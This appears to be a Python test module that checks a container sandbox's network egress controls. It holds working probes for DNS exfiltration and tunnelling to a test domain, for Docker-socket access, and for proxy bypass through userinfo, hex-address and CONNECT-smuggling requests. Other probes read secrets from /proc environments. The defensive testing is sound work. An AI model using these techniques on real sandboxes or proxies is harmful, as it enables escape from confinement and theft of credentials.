"""Where can a program in a box send something?"""

import os
import random
import socket
import struct
from urllib.parse import urlsplit


def unix_socket(facts):
    """A socket that everybody may connect to, as Docker's is on some machines."""
    return _connect(socket.AF_UNIX, facts["unix_socket"], facts["banner"])


def abstract_socket(facts):
    """A socket without a file. It belongs to the network, so that no file system keeps it away."""
    return _connect(socket.AF_UNIX, "\0" + facts["abstract_socket"], facts["banner"])


def docker_socket(facts):
    """Docker's own."""
    refusal = "not there"
    for path in facts["docker_sockets"]:
        try:
            with socket.socket(socket.AF_UNIX) as connection:
                connection.settimeout(3)
                connection.connect(path)
                connection.sendall(b"GET /_ping HTTP/1.0\r\n\r\n")
                if b"OK" in connection.recv(1000):
                    return True, f"{path} answers"
        except OSError as exc:
            refusal = exc.strerror or str(exc)
    return False, refusal


def tcp_loopback(facts):
    """A server of the machine that listens on its loopback only."""
    return _connect(socket.AF_INET, tuple(facts["loopback_server"]), facts["banner"])


def tcp_addresses(facts):
    """A server on each other address of the machine."""
    told = (False, "no address")
    for host, port in facts["other_servers"]:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        told = _connect(family, (host, port), facts["banner"])
        if told[0]:
            break
    return told


def udp(facts):
    """The engine looks what arrived."""
    sent = 0
    for host, port in facts["udp_servers"]:
        sent += _send(host, port, facts["udp_token"].encode())
    return sent > 0, f"{sent} sent"


def dns(facts):
    """A name that is a message, asked of every resolver there may be. The engine looks what arrived."""
    return _ask_dns(facts, facts["dns_token"])


def dns_tunnel(facts):
    """The same, and through the gate: it must not look up what is not allowed."""
    found, words = _ask_dns(facts, facts["tunnel_token"])
    names = [f"{facts['tunnel_token']}.boxflow-attack.test", f"{facts['tunnel_token']}.{facts['allowed_host']}"]
    for name in names:
        for text in (f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n", f"CONNECT {name}:443 HTTP/1.1\r\n\r\n"):
            _through_gate(text)
    return found, words


def allowed_host(facts):
    """What must work: a host of the list, by the proxy that the environment names, or straight where there is none."""
    name = facts["allowed_host"]
    if _gates():
        answer = _through_gate(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n")
    else:
        answer = _http(socket.AF_INET, tuple(facts["allowed_server"]), "GET / HTTP/1.1\r\nHost: it\r\n\r\n")
    return facts["allowed_answer"] in answer, answer.partition("\r\n")[0]


def forbidden_host(facts):
    """A host that is not on the list: by name, by address, by the wrong port of the right name, straight."""
    host, port = facts["forbidden_server"]
    allowed = facts["allowed_host"]
    first = ""
    for name in ("forbidden.test", host, "localhost", f"{allowed}", f"[::ffff:{host}]", "0x7f.1"):
        for text in (
            f"GET http://{name}:{port}/ HTTP/1.1\r\nHost: {name}:{port}\r\nConnection: close\r\n\r\n",
            f"GET http://{name}:{port}/ HTTP/1.1\r\nHost: {allowed}\r\nConnection: close\r\n\r\n",
            f"GET http://{allowed}@{name}:{port}/ HTTP/1.1\r\nHost: {allowed}\r\nConnection: close\r\n\r\n",
            f"CONNECT {name}:{port} HTTP/1.1\r\nHost: {allowed}\r\n\r\nGET / HTTP/1.1\r\nHost: {name}\r\n\r\n",
        ):
            answer = _through_gate(text)
            first = first or answer.partition("\r\n")[0]
            if facts["forbidden_answer"] in answer:
                return True, "through the gate: " + text.partition("\r\n")[0]
    try:
        answer = _http(socket.AF_INET, (host, port), "GET / HTTP/1.1\r\nHost: it\r\n\r\n")
    except OSError as exc:
        return False, f"straight: {exc.strerror or exc}; through the gate: {first or 'there is none'}"
    return facts["forbidden_answer"] in answer, "straight"


def gate_secret(facts):
    """A secret that is put into requests outside: in any environment, in the gate's files, in what it answers."""
    secret = facts["gate_secret"].encode()
    pids = [name for name in os.listdir("/proc") if name.isdecimal()]
    places = [f"/proc/{pid}/environ" for pid in pids] + [f"/proc/{pid}/cmdline" for pid in pids]
    for gate in _gates():
        if isinstance(gate, str):
            places += [os.path.join(os.path.dirname(gate), name) for name in os.listdir(os.path.dirname(gate))]
    looked = 0
    for place in places:
        try:
            with open(place, "rb") as file:
                if secret in file.read():
                    return True, f"read it from {place}"
            looked += 1
        except OSError:
            continue
    name = facts["allowed_host"]
    for method in ("GET", "TRACE"):
        if secret.decode() in _through_gate(
            f"{method} http://{name}/ HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n"
        ):
            return True, f"the answer to {method} has it"
    return False, f"not in {looked} places"


def _connect(family, address, banner):
    with socket.socket(family) as connection:
        connection.settimeout(3)
        try:
            connection.connect(address)
            got = connection.recv(1000).decode()
        except OSError as exc:
            return False, exc.strerror or str(exc)
    return banner in got, "connected" if banner in got else "another one answers"


def _send(host, port, data):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(data, (host, port))
        except OSError:
            return 0
    return 1


def _ask_dns(facts, token):
    name = f"{token}.boxflow-attack.test"
    if _dns_answer(tuple(facts["name_server"]), name, 5):
        return True, "a name server of the machine answers"
    servers = [("127.0.0.11", 53), ("127.0.0.53", 53)]
    try:
        with open("/etc/resolv.conf") as file:
            servers += [(line.split()[1], 53) for line in file if line.startswith("nameserver")]
    except OSError:
        pass
    for server in servers:
        if _dns_answer(server, name, 1):
            return True, f"{server[0]} answers"
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        return False, f"none of {len(servers) + 1} name servers answers"
    return True, "the name was looked up"


def _dns_answer(server, name, seconds):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    question = struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    with socket.socket(socket.AF_INET6 if ":" in server[0] else socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(seconds)
        try:
            asking.connect(server)
            asking.send(question)
            return bool(asking.recv(1000))
        except OSError:
            return False


def _gates():
    """Where the gate may be asked: the proxy of the environment, and the socket itself."""
    found = []
    if proxy := os.environ.get("HTTP_PROXY"):
        found.append((urlsplit(proxy).hostname, urlsplit(proxy).port))
    if bundle := os.environ.get("SSL_CERT_FILE"):
        path = os.path.join(os.path.dirname(bundle), "gate.sock")
        if os.path.exists(path):
            found.append(path)
    return found


def _through_gate(text):
    answers = ""
    for gate in _gates():
        try:
            answers += _http(socket.AF_UNIX if isinstance(gate, str) else socket.AF_INET, gate, text)
        except OSError as exc:
            answers += f"({exc})"
    return answers


def _http(family, address, text):
    with socket.socket(family) as connection:
        connection.settimeout(5)
        connection.connect(address)
        connection.sendall(text.encode())
        got = b""
        try:
            while len(got) < 100_000 and (chunk := connection.recv(65536)):
                got += chunk
                if got.startswith(b"HTTP/1.1 403") and b"\r\n\r\n" in got:
                    break  # The connection may be kept open.
        except OSError:
            pass
    return got.decode(errors="replace")
